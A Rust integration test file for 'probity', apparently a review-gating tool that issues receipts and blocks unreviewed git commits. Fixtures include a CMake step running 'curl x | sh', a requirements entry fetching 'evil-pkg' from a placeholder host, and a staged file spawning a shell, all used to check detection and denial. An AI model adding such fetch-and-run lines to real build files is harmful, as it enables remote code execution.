//! The ordinary review through the real `probity` binary on real repositories.

mod support;

use probity_git::fixture::Fixture;
use support::*;

/// A repository whose `path` holds `base` committed and `change` in the
/// worktree.
fn changed(path: &str, base: &str, change: &str) -> Fixture {
    let f = Fixture::new().unwrap();
    f.write(path, base).unwrap();
    f.commit_all("base").unwrap();
    f.write(path, change).unwrap();
    f
}

/// `probity validate --gate pre-commit`.
fn pre_commit(f: &Fixture) -> Run {
    probity(f.root(), &["validate", "--gate", "pre-commit"])
}

/// Starts a review and approves it with the clean result and `evidence`.
fn approve_with(f: &Fixture, dir: &std::path::Path, evidence: &str) {
    probity(f.root(), &["start"]);
    let r = input(dir, "r.json", CLEAN_RESULT);
    let ev = input(dir, "ev.txt", evidence);
    assert_eq!(
        probity(f.root(), &["finalize", "--result", &r, "--evidence", &ev]).code,
        0
    );
}

/// Installs `script` as the repository's executable pre-commit hook.
fn pre_commit_hook(f: &Fixture, script: String) {
    let hook = f.root().join(".git/hooks/pre-commit");
    std::fs::create_dir_all(hook.parent().unwrap()).unwrap();
    std::fs::write(&hook, script).unwrap();
    let mut perms = std::fs::metadata(&hook).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o755);
    std::fs::set_permissions(&hook, perms).unwrap();
}

/// The binary, isolated, with no `--cwd`.
fn bare_probity() -> std::process::Command {
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_probity"));
    isolated(&mut cmd);
    cmd
}

/// `probity lens preflight --lineage LINEAGE ARGS...`.
fn preflight(f: &Fixture, lineage: &str, args: &[&str]) -> Run {
    let mut a = vec!["lens", "preflight", "--lineage", lineage];
    a.extend(args);
    probity(f.root(), &a)
}

#[test]
fn start_finalize_validate_then_a_comment_edit_is_denied() {
    let f = medium_change();
    let tmp = tempfile::tempdir().unwrap();
    let index_before = f.index_bytes().unwrap();
    let status_before = f.status().unwrap();

    let s = probity_ok(f.root(), &["start"]);
    let j = &s.json;
    for key in [
        "lineage_id",
        "state",
        "risk_level",
        "risk_reasons",
        "selected_lenses",
        "lens_bindings",
        "changed_files",
        "changed_lines",
        "correction_budget",
        "base_tree",
        "candidate_tree",
        "paths_digest",
        "store_revision",
        "action",
    ] {
        assert!(j.get(key).is_some(), "start lacks {key}: {j}");
    }
    assert_eq!(j["state"], "reviewing");
    assert_eq!(j["risk_level"], "medium");
    assert_eq!(j["selected_lenses"], serde_json::json!(["reliability"]));
    assert_eq!(j["changed_files"], 2);
    assert_eq!(j["changed_lines"], 3);
    assert_eq!(j["correction_budget"], 2);
    assert_eq!(j["action"], "run_lenses");
    assert_eq!(j["lens_bindings"][0]["finding_id_prefix"], "R3");
    let lineage = string_at(j, "lineage_id");

    // Starting again resumes the same lineage and budget (R1.3).
    let again = probity(f.root(), &["start"]);
    assert_eq!(again.json["lineage_id"], lineage.as_str());
    assert_eq!(again.json["resumed"], true);
    assert_eq!(again.json["store_revision"], j["store_revision"]);

    let result = input(tmp.path(), "r.json", CLEAN_RESULT);
    let fin = probity(f.root(), &["finalize", "--result", &result]);
    assert_eq!(fin.code, 0, "{}", fin.stdout);
    assert_eq!(fin.json["state"], "validating");
    assert_eq!(fin.json["action"], "provide_evidence");
    assert!(fin.json.get("receipt_path").is_none());

    let ev = input(tmp.path(), "ev.txt", "cargo test: 12 passed\n");
    let done = probity(f.root(), &["finalize", "--evidence", &ev]);
    assert_eq!(done.code, 0, "{}", done.stdout);
    assert_eq!(done.json["state"], "approved");
    assert_eq!(done.json["action"], "none");
    let receipt_path = done.json["receipt_path"].as_str().unwrap();
    let receipt: serde_json::Value =
        serde_json::from_slice(&std::fs::read(receipt_path).unwrap()).unwrap();
    assert_eq!(receipt.as_object().unwrap().len(), 14);
    assert_eq!(
        receipt["initial_review_tree"],
        receipt["final_candidate_tree"]
    );

    // An exact retry returns the same answer.
    let retry = probity(
        f.root(),
        &["finalize", "--lineage", &lineage, "--evidence", &ev],
    );
    assert_eq!(retry.code, 0);
    assert_eq!(retry.json["store_revision"], done.json["store_revision"]);

    let allow = pre_commit(&f);
    assert_eq!(
        (allow.code, &allow.json["decision"]),
        (0, &serde_json::json!("allow")),
        "{}",
        allow.stdout
    );
    assert_eq!(allow.json["lineage_id"], lineage.as_str());

    assert_eq!(
        f.index_bytes().unwrap(),
        index_before,
        "start/finalize/validate must not touch the index"
    );
    assert_eq!(
        f.status().unwrap(),
        status_before,
        "git status must not change"
    );

    // Staging unchanged content is a representation change.
    f.git(&["add", "-A"]).unwrap();
    assert_eq!(pre_commit(&f).code, 0);

    // A comment edit after approval is scope drift.
    f.write(
        "src/parser.rs",
        "// the parser\nfn parse() {}\nfn more() {}\n",
    )
    .unwrap();
    let deny = pre_commit(&f);
    assert_eq!(deny.code, 1, "{}", deny.stdout);
    for key in [
        "decision",
        "reason_code",
        "stage",
        "lineage_id",
        "differing_paths",
        "next_action",
    ] {
        assert!(deny.json.get(key).is_some(), "validate lacks {key}");
    }
    assert_eq!(deny.json["reason_code"], "receipt_scope_changed");
    assert_eq!(
        deny.json["differing_paths"],
        serde_json::json!(["src/parser.rs"])
    );
    assert_eq!(deny.json["next_action"], "start_review");

    let st = probity(f.root(), &["status"]);
    assert_eq!(st.json["applicability"], "scope_changed");
    assert_eq!(st.json["generation"], 1);
}

#[test]
fn unrelated_new_work_and_missing_receipts_are_told_apart() {
    let f = medium_change();
    let tmp = tempfile::tempdir().unwrap();
    let missing = pre_commit(&f);
    assert_eq!(
        (missing.code, missing.json["reason_code"].as_str()),
        (1, Some("receipt_missing"))
    );

    probity(f.root(), &["start"]);
    let incomplete = pre_commit(&f);
    assert_eq!(incomplete.json["reason_code"], "review_incomplete");
    approve_with(&f, tmp.path(), "ok\n");

    f.write("docs/notes.md", "notes\n").unwrap();
    let unrelated = pre_commit(&f);
    assert_eq!(unrelated.code, 1);
    assert_eq!(unrelated.json["reason_code"], "receipt_unrelated");
    assert_eq!(
        unrelated.json["differing_paths"],
        serde_json::json!(["docs/notes.md"])
    );
    assert_eq!(
        probity(f.root(), &["status"]).json["applicability"],
        "unrelated"
    );

    // Removing a reviewed untracked file changes the reviewed path set.
    f.remove("docs/notes.md").unwrap();
    f.remove("src/parser_test.rs").unwrap();
    let scope = pre_commit(&f);
    assert_eq!(scope.json["reason_code"], "receipt_scope_changed");
}

#[test]
fn a_zero_lens_review_approves_with_evidence_alone() {
    let f = changed("docs/guide.md", "# guide\n", "# guide\n\nmore\n");
    let tmp = tempfile::tempdir().unwrap();
    let s = probity(f.root(), &["start"]);
    assert_eq!(s.json["risk_level"], "low");
    assert_eq!(s.json["selected_lenses"], serde_json::json!([]));
    assert_eq!(s.json["action"], "provide_evidence");
    let ev = input(tmp.path(), "ev.txt", "docs build: ok\n");
    let done = probity(f.root(), &["finalize", "--evidence", &ev]);
    assert_eq!(done.json["state"], "approved", "{}", done.stdout);
    assert_eq!(pre_commit(&f).code, 0);
}

#[test]
fn every_malformed_lens_result_is_rejected_and_the_store_is_byte_identical() {
    let f = medium_change();
    let tmp = tempfile::tempdir().unwrap();
    assert_eq!(probity(f.root(), &["start"]).code, 0);
    let before = store_snapshot(&f);
    let cases = [
        (
            "unknown field",
            r#"{"findings":[],"evidence":["x"],"lens":"risk"}"#,
        ),
        ("empty evidence", r#"{"findings":[],"evidence":[]}"#),
        ("blank evidence", r#"{"findings":[],"evidence":["   "]}"#),
        (
            "blank proof",
            r#"{"findings":[{"location":"a:1","severity":"WARNING","claim":"c","proof_refs":[" "]}],"evidence":["x"]}"#,
        ),
        (
            "severe without class",
            r#"{"findings":[{"location":"src/parser.rs:3","severity":"BLOCKER","claim":"c","proof_refs":["t"],"causal_disposition":"introduced"}],"evidence":["x"]}"#,
        ),
        ("not JSON", "this is not json"),
    ];
    for (name, doc) in cases {
        let path = input(tmp.path(), "bad.json", doc);
        let r = probity(f.root(), &["finalize", "--result", &path]);
        assert_eq!(r.code, 3, "{name}: {}", r.stdout);
        assert_eq!(r.json["error"]["code"], "malformed_input", "{name}");
        assert_eq!(store_snapshot(&f), before, "{name} changed the store");
    }
    // Two results for the one selected lens.
    let ok = input(tmp.path(), "ok.json", CLEAN_RESULT);
    let r = probity(f.root(), &["finalize", "--result", &ok, "--result", &ok]);
    r.assert_refused(3, "result_duplicate");
    assert_eq!(store_snapshot(&f), before);
    // Empty evidence bytes.
    let empty = input(tmp.path(), "empty.txt", "");
    let r = probity(
        f.root(),
        &["finalize", "--result", &ok, "--evidence", &empty],
    );
    r.assert_refused(3, "empty_evidence");
    assert_eq!(store_snapshot(&f), before);
    // Malformed refuter, validator and forecast inputs are refused before
    // anything is read from the store.
    for (flag, doc) in [
        ("--refuter", r#"{"outcomes":[]}"#),
        (
            "--refuter",
            r#"{"outcomes":[{"finding_id":"R3-001","outcome":"refuted","evidence":["x"]},{"finding_id":"R3-001","outcome":"refuted","evidence":["x"]}]}"#,
        ),
        (
            "--validation",
            r#"{"original_criteria":{"passed":true,"evidence":[]},"correction_regression":{"passed":true,"evidence":["x"]}}"#,
        ),
        ("--validation", "{"),
    ] {
        let path = input(tmp.path(), "doc.json", doc);
        let r = probity(f.root(), &["finalize", flag, &path]);
        assert_eq!(
            (r.code, r.json["error"]["code"].as_str()),
            (3, Some("malformed_input")),
            "{flag} {doc}"
        );
        assert_eq!(store_snapshot(&f), before);
    }
    let r = probity(f.root(), &["finalize", "--correction-lines", "0"]);
    r.assert_refused(3, "zero_forecast");
    assert_eq!(store_snapshot(&f), before);
    // A well-formed refuter batch when no finding awaits one.
    let batch = input(
        tmp.path(),
        "batch.json",
        r#"{"outcomes":[{"finding_id":"R3-001","outcome":"refuted","evidence":["x"]}]}"#,
    );
    let r = probity(f.root(), &["finalize", "--refuter", &batch]);
    r.assert_refused(3, "wrong_stage");
    assert_eq!(store_snapshot(&f), before);
}

#[test]
fn an_escalating_finding_escalates_and_the_gate_denies() {
    let f = medium_change();
    let tmp = tempfile::tempdir().unwrap();
    probity(f.root(), &["start"]);
    let doc = input(
        tmp.path(),
        "r.json",
        r#"{"findings":[{"location":"src/parser.rs:3","severity":"BLOCKER","claim":"timeout under load","proof_refs":["load test"],"evidence_class":"inferential","causal_disposition":"unknown"}],"evidence":["x"]}"#,
    );
    let r = probity(f.root(), &["finalize", "--result", &doc]);
    assert_eq!(r.json["state"], "escalated", "{}", r.stdout);
    assert_eq!(r.json["findings"][0]["route"], "escalation");
    assert!(r.json["receipt_path"].is_string());
    let g = pre_commit(&f);
    assert_eq!(
        (g.code, g.json["reason_code"].as_str()),
        (1, Some("review_escalated"))
    );
}

#[test]
fn concurrent_finalizes_of_one_lineage_one_wins_the_other_conflicts() {
    for round in 0..4 {
        let f = medium_change();
        let tmp = tempfile::tempdir().unwrap();
        probity(f.root(), &["start"]);
        let r = input(tmp.path(), "r.json", CLEAN_RESULT);
        assert_eq!(probity(f.root(), &["finalize", "--result", &r]).code, 0);
        let a = input(tmp.path(), "a.txt", "evidence A\n");
        let b = input(tmp.path(), "b.txt", "evidence B\n");
        let root = f.root().to_path_buf();
        let (ra, rb) = std::thread::scope(|s| {
            let ha = s.spawn(|| probity(&root, &["finalize", "--evidence", &a]));
            let hb = s.spawn(|| probity(&root, &["finalize", "--evidence", &b]));
            (ha.join().unwrap(), hb.join().unwrap())
        });
        let mut codes = [ra.code, rb.code];
        codes.sort();
        assert_eq!(codes, [0, 4], "round {round}: {}\n{}", ra.stdout, rb.stdout);
        let loser = if ra.code == 4 { &ra } else { &rb };
        let code = loser.json["error"]["code"].as_str().unwrap();
        assert!(
            ["stale_revision", "different_retry", "contention"].contains(&code),
            "{code}"
        );
        // Nothing torn: the store still validates and the gate allows.
        assert_eq!(probity(f.root(), &["status"]).json["state"], "approved");
        assert_eq!(pre_commit(&f).code, 0);
    }
}

#[test]
fn a_linked_worktree_shares_the_store() {
    let f = medium_change();
    let tmp = tempfile::tempdir().unwrap();
    let lineage = start_lineage(f.root());
    let wt = tmp.path().join("wt");
    f.git(&["worktree", "add", "-q", wt.to_str().unwrap(), "-b", "side"])
        .unwrap();
    let st = probity(&wt, &["status", "--lineage", &lineage]);
    assert_eq!(st.code, 0, "{}", st.stdout);
    assert_eq!(st.json["lineage_id"], lineage.as_str());
    assert_eq!(st.json["state"], "reviewing");
    assert_ne!(st.json["applicability"], "current");
}

#[test]
fn corrupted_state_fails_closed() {
    let f = medium_change();
    let s = probity(f.root(), &["start"]);
    let lineage = s.json["lineage_id"].as_str().unwrap();
    let state = f
        .root()
        .join(".git/probity/reviews/v1")
        .join(lineage)
        .join("state.json");
    let text = std::fs::read_to_string(&state).unwrap();
    std::fs::write(
        &state,
        text.replace("\"correction_budget\":2", "\"correction_budget\":3"),
    )
    .unwrap();
    let v = pre_commit(&f);
    v.assert_refused(6, "store_corrupted");
    let st = probity(f.root(), &["status", "--lineage", lineage]);
    assert_eq!(st.code, 6);
}

#[test]
fn usage_and_repository_errors_have_their_exit_codes() {
    let f = medium_change();
    let release = probity(f.root(), &["validate", "--gate", "release"]);
    release.assert_refused(2, "revision_required");
    let pr = probity(f.root(), &["validate", "--gate", "pre-pr"]);
    pr.assert_refused(2, "base_required");
    let dir = tempfile::tempdir().unwrap();
    let nr = probity(dir.path(), &["status"]);
    nr.assert_refused(5, "repository_error");
    let bad = probity(f.root(), &["status", "--lineage", "nope"]);
    bad.assert_refused(3, "bad_lineage");
    let clean = Fixture::new().unwrap();
    clean.write("a", "a").unwrap();
    clean.commit_all("a").unwrap();
    let nothing = probity(clean.root(), &["start"]);
    nothing.assert_refused(3, "nothing_to_review");
    let flags = bare_probity().arg("--bogus").output().unwrap();
    assert_eq!(flags.status.code(), Some(2));
}

#[test]
fn finalize_refuses_a_candidate_that_moved_since_start() {
    let f = medium_change();
    let tmp = tempfile::tempdir().unwrap();
    let s = probity(f.root(), &["start"]);
    let lineage = s.json["lineage_id"].as_str().unwrap();
    f.write("src/parser.rs", "moved\n").unwrap();
    let before = store_snapshot(&f);
    let r = input(tmp.path(), "r.json", CLEAN_RESULT);
    let out = probity(
        f.root(),
        &["finalize", "--lineage", lineage, "--result", &r],
    );
    out.assert_refused(4, "candidate_changed");
    assert_eq!(store_snapshot(&f), before);
    let discovered = probity(f.root(), &["finalize", "--result", &r]);
    assert_eq!(discovered.json["error"]["code"], "no_review");
}

#[test]
fn golden_binary_and_lock_files_stay_in_scope_but_count_zero_lines() {
    let f = changed("src/lib.rs", "fn a() {}\n", "fn a() {}\nfn b() {}\n");
    f.write("testdata/golden/out.golden", "x\n".repeat(500))
        .unwrap();
    f.write("golden/tests/snapshots/a.snap", "y\n".repeat(300))
        .unwrap();
    f.write("Cargo.lock", "z\n".repeat(200)).unwrap();
    f.write("logo.png", [0x89u8, b'P', b'N', b'G', 0, 0, 1, 2])
        .unwrap();
    let s = probity(f.root(), &["start"]);
    assert_eq!(s.code, 0, "{}", s.stdout);
    assert_eq!(s.json["changed_files"], 5);
    assert_eq!(s.json["changed_lines"], 1, "only src/lib.rs counts");
    assert_eq!(s.json["correction_budget"], 1);
}

#[test]
fn a_real_pre_commit_hook_blocks_unreviewed_commits_and_allows_the_approved_one() {
    let f = medium_change();
    let tmp = tempfile::tempdir().unwrap();
    pre_commit_hook(
        &f,
        format!(
            "#!/bin/sh\nexec '{}' validate --gate pre-commit\n",
            env!("CARGO_BIN_EXE_probity")
        ),
    );

    // Not reviewed yet: the hook denies and the commit does not happen.
    f.git(&["add", "-A"]).unwrap();
    let err = f.git(&["commit", "-q", "-m", "unreviewed"]).unwrap_err();
    assert!(err.to_string().contains("receipt_missing"), "{err}");

    // Reviewed and approved: the same commit goes through, from inside
    // git's hook environment (GIT_INDEX_FILE and friends set).
    approve_with(&f, tmp.path(), "tests: ok\n");
    // What the commit delivers is the index, not the worktree: staged bytes
    // that were never reviewed are refused even when the worktree shows the
    // approved ones (an `MM` path).
    let approved = std::fs::read(f.root().join("src/parser.rs")).unwrap();
    f.write(
        "src/parser.rs",
        "// parser\nfn parse() { std::process::Command::new(\"sh\"); }\n",
    )
    .unwrap();
    f.git(&["add", "src/parser.rs"]).unwrap();
    f.write("src/parser.rs", &approved).unwrap();
    assert_eq!(pre_commit(&f).code, 0, "the worktree is approved");
    let staged = probity(f.root(), &["validate", "--gate", "pre-commit", "--staged"]);
    assert_eq!(
        (staged.code, staged.json["delivery"].as_str()),
        (1, Some("index")),
        "{}",
        staged.stdout
    );
    assert_eq!(
        staged.json["differing_paths"],
        serde_json::json!(["src/parser.rs"])
    );
    let err = f.git(&["commit", "-q", "-m", "smuggled"]).unwrap_err();
    assert!(err.to_string().contains("DENY"), "{err}");
    // A partial commit (`git commit <path>`) leaves a reviewed file out.
    f.git(&["add", "src/parser.rs"]).unwrap();
    f.git(&["reset", "-q", "--", "src/parser_test.rs"]).unwrap();
    let err = f
        .git(&["commit", "-q", "-m", "partial", "--", "src/parser.rs"])
        .unwrap_err();
    assert!(err.to_string().contains("DENY"), "{err}");
    // Exactly the approved content goes through.
    f.git(&["add", "-A"]).unwrap();
    f.git(&["commit", "-q", "-m", "reviewed"]).unwrap();
    let log = String::from_utf8(f.git(&["log", "--format=%s"]).unwrap()).unwrap();
    assert_eq!(log, "reviewed\nbase\n");
}

#[test]
fn lens_preflight_confirms_a_result_can_land() {
    let f = medium_change();
    let tmp = tempfile::tempdir().unwrap();
    let s = probity(f.root(), &["start"]);
    let lineage = string_at(&s.json, "lineage_id");
    let binding = s.json["lens_bindings"][0]["binding"]
        .as_str()
        .unwrap()
        .to_string();
    let before = store_snapshot(&f);
    let ok = preflight(
        &f,
        &lineage,
        &["--lens", "reliability", "--binding", &binding],
    );
    assert_eq!(
        (ok.code, &ok.json["binding"]),
        (0, &serde_json::json!(binding)),
        "{}",
        ok.stdout
    );
    let tampered = binding.replace("position=1/1", "position=2/1");
    for args in [
        vec!["--lens", "risk"],
        vec!["--lens", "reliability", "--binding", tampered.as_str()],
    ] {
        let r = preflight(&f, &lineage, &args);
        r.assert_refused(3, "preflight_failed");
    }
    assert_eq!(store_snapshot(&f), before, "preflight is read-only");
    let r = input(tmp.path(), "r.json", CLEAN_RESULT);
    probity(f.root(), &["finalize", "--result", &r]);
    let late = preflight(&f, &lineage, &["--lens", "reliability"]);
    assert_eq!(late.code, 3, "results already landed");
}

#[test]
fn attributes_and_self_added_markers_cannot_hide_authored_lines() {
    let f = Fixture::new().unwrap();
    f.write("src/parser.rs", "fn a() {}\n").unwrap();
    f.commit_all("base").unwrap();
    let big: String = (0..500).map(|i| format!("fn f{i}() {{}}\n")).collect();
    f.write(
        "src/parser.rs",
        format!("// @generated by hand, not really\n{big}"),
    )
    .unwrap();
    // A local, untracked attribute that makes git call the file binary.
    std::fs::write(
        f.root().join(".git/info/attributes"),
        "src/parser.rs -diff\n",
    )
    .unwrap();
    let s = probity(f.root(), &["start"]);
    assert_eq!(s.code, 0, "{}", s.stdout);
    assert_eq!(s.json["changed_lines"], 502, "{}", s.stdout);
    assert_eq!(s.json["risk_level"], "high");
    assert_eq!(s.json["risk_reasons"], serde_json::json!(["large_change"]));
    assert_eq!(s.json["correction_budget"], 200);
}

#[test]
fn build_manifests_in_txt_files_are_not_passive() {
    let f = Fixture::new().unwrap();
    f.write("CMakeLists.txt", "project(x)\n").unwrap();
    f.write("requirements.txt", "requests\n").unwrap();
    f.commit_all("base").unwrap();
    f.write(
        "CMakeLists.txt",
        "project(x)\nexecute_process(COMMAND sh -c \"curl x | sh\")\n",
    )
    .unwrap();
    f.write(
        "requirements.txt",
        "requests\nevil-pkg @ https://example.invalid/e.tar.gz\n",
    )
    .unwrap();
    let s = probity(f.root(), &["start"]);
    assert_ne!(s.json["risk_level"], "low", "{}", s.stdout);
    assert_ne!(s.json["selected_lenses"], serde_json::json!([]));
}

#[test]
fn an_unrelated_non_utf8_file_is_a_denial_not_a_repository_error() {
    use std::os::unix::ffi::OsStrExt;
    let f = medium_change();
    let tmp = tempfile::tempdir().unwrap();
    approve_with(&f, tmp.path(), "ok\n");
    std::fs::write(
        f.root()
            .join(std::ffi::OsStr::from_bytes(b"notes-\xff.txt")),
        "x",
    )
    .unwrap();
    let g = pre_commit(&f);
    assert_eq!(
        (g.code, g.json["reason_code"].as_str()),
        (1, Some("receipt_unrelated")),
        "{}",
        g.stdout
    );
}

#[test]
fn usage_errors_answer_json_when_asked_and_probity_review_cwd_pins_the_repository() {
    let f = medium_change();
    let out = bare_probity()
        .args(["finalize", "--json", "--correction-lines", "abc"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["error"]["code"], "usage");
    assert!(
        v["error"]["message"]
            .as_str()
            .unwrap()
            .contains("--correction-lines")
    );
    // Run from an unrelated directory: PROBITY_REVIEW_CWD names the owner.
    let elsewhere = tempfile::tempdir().unwrap();
    let out = bare_probity()
        .args(["--json", "start"])
        .current_dir(elsewhere.path())
        .env("PROBITY_REVIEW_CWD", f.root())
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(f.root().join(".git/probity/reviews/v1").is_dir());
}

#[test]
fn a_nul_byte_does_not_shrink_a_large_change() {
    let f = large_c_change("/* \0 */\n");
    let s = probity(f.root(), &["start"]);
    assert_eq!(s.json["risk_level"], "high", "{}", s.stdout);
    assert_eq!(s.json["risk_reasons"], serde_json::json!(["large_change"]));
}

#[test]
fn a_hook_judges_its_own_repository_whatever_probity_review_cwd_says() {
    let x = medium_change();
    let tmp = tempfile::tempdir().unwrap();
    approve_with(&x, tmp.path(), "ok\n");
    // Y stages exactly X's approved content, but Y's commit is Y's.
    let y = medium_change();
    y.git(&["add", "-A"]).unwrap();
    pre_commit_hook(
        &y,
        format!(
            "#!/bin/sh\nPROBITY_REVIEW_CWD='{}' exec '{}' validate --gate pre-commit\n",
            x.root().display(),
            env!("CARGO_BIN_EXE_probity")
        ),
    );
    let err = y
        .git(&["commit", "-q", "-m", "borrowed approval"])
        .unwrap_err();
    assert!(err.to_string().contains("receipt_missing"), "{err}");
}

#[test]
fn an_index_from_another_repository_is_refused() {
    let x = medium_change();
    let y = medium_change();
    y.git(&["add", "-A"]).unwrap();
    let out = bare_probity()
        .args(["--json", "validate", "--gate", "pre-commit"])
        .current_dir(x.root())
        .env("GIT_INDEX_FILE", y.root().join(".git/index"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["error"]["code"], "foreign_index");
}
